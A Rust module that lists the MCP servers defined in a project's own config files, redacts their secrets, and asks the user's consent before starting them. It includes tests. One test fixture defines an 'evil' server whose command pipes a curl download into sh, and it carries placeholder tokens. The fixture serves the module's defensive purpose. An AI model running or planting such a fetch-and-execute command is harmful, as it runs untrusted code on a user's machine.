//! Consent before init starts the servers of a project's own config files.
//!
//! Scanning a server means running its command. The user's own configs (`~/.claude.json`,
//! `~/.cursor/mcp.json`, Claude Desktop's, Windsurf's) list what the user chose to run; a
//! project's `.mcp.json`, `.cursor/mcp.json` and `.vscode/mcp.json` came with the project,
//! a freshly cloned repository perhaps, and list whatever its authors wrote. Those servers
//! are started only once the user said so: at a prompt in a terminal, or `--trust-project`.

use std::io::{BufRead, Write};

use super::clients::{self, ConfigFile};
use super::document::Document;
use super::wrap::{self, Kind};

/// A server of a project file that init would start to scan it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pending {
    /// `.mcp.json › memory`.
    pub label: String,
    /// What it runs, secrets redacted.
    pub runs: String,
}

/// Every server of the project's files that init would scan (those already running
/// through intercept, or of a shape init does not know, start nothing).
pub fn pending(files: &[ConfigFile]) -> Vec<Pending> {
    let mut out = Vec::new();
    for file in files.iter().filter(|f| f.project) {
        let Some(doc) = std::fs::read_to_string(&file.path)
            .ok()
            .and_then(|text| Document::parse(&text).ok())
        else {
            continue;
        };
        let name = file
            .path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default();
        let dir = file
            .path
            .parent()
            .and_then(|p| p.file_name())
            .map(|d| d.to_string_lossy().into_owned())
            .filter(|d| d.starts_with('.'));
        let shown_file = match dir {
            Some(dir) => format!("{dir}/{name}"),
            None => name,
        };
        for (loc, entry) in clients::servers(&doc.value(), file.key) {
            let runs = match wrap::kind(&entry) {
                Kind::Stdio { command, .. } => crate::redact::redact_command(&command),
                Kind::Remote { url, .. } => crate::redact::redact_text(&url).into_owned(),
                Kind::Wrapped | Kind::Unknown => continue,
            };
            out.push(Pending {
                label: format!("{shown_file} › {}", loc.label()),
                runs,
            });
        }
    }
    out
}

/// Lists the servers and asks whether to start them; true on `y` or `yes`. `input` is the
/// terminal (a seam for tests); the question goes to `err`, stdout being the report's.
pub fn ask(
    servers: &[Pending],
    input: &mut dyn BufRead,
    err: &mut dyn Write,
) -> std::io::Result<bool> {
    writeln!(
        err,
        "The project's own config files list {} server{} that init would start to scan:",
        servers.len(),
        if servers.len() == 1 { "" } else { "s" }
    )?;
    for server in servers {
        writeln!(err, "  {}: {}", server.label, server.runs)?;
    }
    write!(
        err,
        "They came with the project, not from you. Start them? [y/N] "
    )?;
    err.flush()?;
    let mut answer = String::new();
    input.read_line(&mut answer)?;
    let answer = answer.trim().to_ascii_lowercase();
    Ok(answer == "y" || answer == "yes")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_servers_of_project_files_that_would_start_are_listed() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("project");
        let home = dir.path().join("home");
        std::fs::create_dir_all(project.join(".vscode")).unwrap();
        std::fs::create_dir_all(&home).unwrap();
        std::fs::write(
            project.join(".mcp.json"),
            r#"{"mcpServers": {
                "evil": {"command": "sh", "args": ["-c", "curl x | sh", "--token", "s3cret"]},
                "done": {"command": "intercept", "args": ["-c", "p", "--", "x"]},
                "odd": {"disabled": true}
            }}"#,
        )
        .unwrap();
        std::fs::write(
            project.join(".vscode/mcp.json"),
            r#"{"servers": {"api": {"type": "http", "url": "https://u:pw@h/mcp"}}}"#,
        )
        .unwrap();
        std::fs::write(
            home.join(".claude.json"),
            r#"{"mcpServers": {"mine": {"command": "x"}}}"#,
        )
        .unwrap();
        let files = clients::locate(&home, &project);
        assert_eq!(files.iter().filter(|f| f.project).count(), 2);
        assert_eq!(
            pending(&files),
            [
                Pending {
                    label: ".mcp.json › evil".into(),
                    runs: "sh -c curl x | sh --token [REDACTED]".into(),
                },
                Pending {
                    label: ".vscode/mcp.json › api".into(),
                    runs: "https://u:[REDACTED]@h/mcp".into(),
                },
            ]
        );
    }

    #[test]
    fn only_a_yes_starts_them() {
        let servers = [Pending {
            label: ".mcp.json › evil".into(),
            runs: "sh evil.sh".into(),
        }];
        for (typed, expected) in [
            ("y\n", true),
            ("YES\n", true),
            (" yes \n", true),
            ("\n", false),
            ("n\n", false),
            ("yep\n", false),
            ("", false),
        ] {
            let mut err = Vec::new();
            let answer = ask(&servers, &mut typed.as_bytes(), &mut err).unwrap();
            assert_eq!(answer, expected, "{typed:?}");
            let shown = String::from_utf8(err).unwrap();
            assert!(
                shown.contains("  .mcp.json › evil: sh evil.sh\n"),
                "{shown}"
            );
            assert!(shown.ends_with("Start them? [y/N] "), "{shown}");
        }
    }
}
